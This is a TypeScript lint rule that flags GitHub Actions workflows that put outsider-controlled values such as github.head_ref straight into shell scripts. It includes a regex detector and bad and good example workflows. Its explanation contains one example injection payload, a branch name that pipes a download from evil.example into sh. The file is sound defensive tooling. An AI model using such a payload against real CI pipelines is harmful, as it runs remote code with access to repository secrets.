import { lines } from '../lines.ts'
import type { Rule } from '../rule.ts'

/**
 * Values that outsiders control and that can contain shell syntax. Names of repositories and tags of releases cannot.
 * https://docs.github.com/en/actions/reference/security/secure-use
 */
const untrusted =
  /\$\{\{[^}]*\b(?:github\.head_ref|github\.event\.(?:issue|pull_request|comment|review|discussion|pages|commits|head_commit|release|workflow_run)\b[\w.[\]*]*(?:title|body|message|email|head\.ref|head\.label|head_branch|page_name|(?<=author\.|committer\.|release\.)name))\b[^}]*\}\}/g

export const expressionInScript: Rule = {
  code: 'EXPRESSION_IN_SCRIPT',
  severity: 'error',
  title: 'An expression inserts text from outsiders into a shell script.',
  why: 'GitHub inserts the text before the shell reads the script. A branch named `$(curl evil.example|sh)` runs that command in the job, with its secrets.',
  hint: 'Pass the value in a variable: `env: { REF: ${{ github.head_ref }} }`, and use `"$REF"` in the script.',
  bad: workflowWith('      - run: ssh deploy@test.example.com "./deploy.sh ${{ github.head_ref }}"'),
  good: workflowWith(
    '      - run: ssh deploy@test.example.com ./deploy.sh "$REF"',
    '        env:',
    '          REF: ${{ github.head_ref }}',
  ),
  *check({ workflows }) {
    for (const { run } of workflows.flatMap(({ jobs }) => jobs.flatMap(({ steps }) => steps))) {
      if (run === undefined) continue
      const { file, start, end } = run
      for (const match of file.text.slice(start, end).matchAll(untrusted)) {
        const at = { file, start: start + match.index, end: start + match.index + match[0].length }
        yield {
          at,
          message: `\`${match[0].replace(/^\$\{\{\s*|\s*\}\}$/g, '')}\` becomes part of the script, whatever it contains.`,
        }
      }
    }
  },
}

function workflowWith(...step: readonly string[]): Record<string, string> {
  return {
    '.github/workflows/deploy.yml': lines(
      'on: pull_request',
      'jobs:',
      '  deploy:',
      '    runs-on: ubuntu-latest',
      '    steps:',
      ...step,
    ),
  }
}
